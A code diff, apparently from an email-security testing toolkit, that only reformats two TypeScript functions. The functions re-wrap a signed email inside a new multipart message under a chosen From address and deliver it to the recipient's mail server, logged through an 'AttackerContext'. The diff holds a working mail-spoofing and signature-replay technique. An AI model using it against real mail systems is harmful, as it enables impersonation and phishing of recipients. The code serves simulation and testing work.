@@ -48,10 +48,16 @@ export function rewrapSignedMail(signedRaw: Uint8Array, o: RewrapOptions): Uint8
   const inner =
     o.technique === 'wrap-mixed'
       ? Buffer.from(entity)
-      : Buffer.concat([Buffer.from('Content-Type: message/rfc822\r\nContent-Disposition: attachment; filename="forwarded.eml"\r\n\r\n', 'latin1'), Buffer.from(signedRaw)]);
+      : Buffer.concat([
+          Buffer.from('Content-Type: message/rfc822\r\nContent-Disposition: attachment; filename="forwarded.eml"\r\n\r\n', 'latin1'),
+          Buffer.from(signedRaw),
+        ]);
   return new Uint8Array(
     Buffer.concat([
-      Buffer.from(`${top}Content-Type: multipart/mixed; boundary="${boundary}"\r\n\r\n--${boundary}\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n`, 'latin1'),
+      Buffer.from(
+        `${top}Content-Type: multipart/mixed; boundary="${boundary}"\r\n\r\n--${boundary}\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n`,
+        'latin1',
+      ),
       Buffer.from(`${text}\r\n--${boundary}\r\n`, 'utf8'),
       inner,
       Buffer.from(`\r\n--${boundary}--\r\n`, 'latin1'),
@@ -73,7 +79,12 @@ export async function sendRewrapped(ctx: AttackerContext, o: SendRewrappedOption
   const raw = rewrapSignedMail(o.signedRaw, { ...o, ...(ctx.now && !o.date ? { date: ctx.now() } : {}) });
   rec.act(`re-wrapped a signed mail (${o.technique}) under From: ${o.from}`);
   const toHeader = /^To:[ \t]*(.*)$/im.exec(Buffer.from(raw).toString('latin1'))?.[1] ?? '';
-  const rcpt = o.rcptTo ?? toHeader.split(',').map((t) => addressIn(t)).filter((t): t is string => !!t);
+  const rcpt =
+    o.rcptTo ??
+    toHeader
+      .split(',')
+      .map((t) => addressIn(t))
+      .filter((t): t is string => !!t);
   const mx = o.mx ?? { host: await mxOf(ctx, rcpt[0]?.split('@')[1] ?? ''), port: 25 };
   return deliverAndRecord(ctx, rec, { target: mx, envelope: { from: addressIn(o.from) ?? '', to: rcpt }, raw, ...(o.tls ? { tls: o.tls } : {}) });
 }
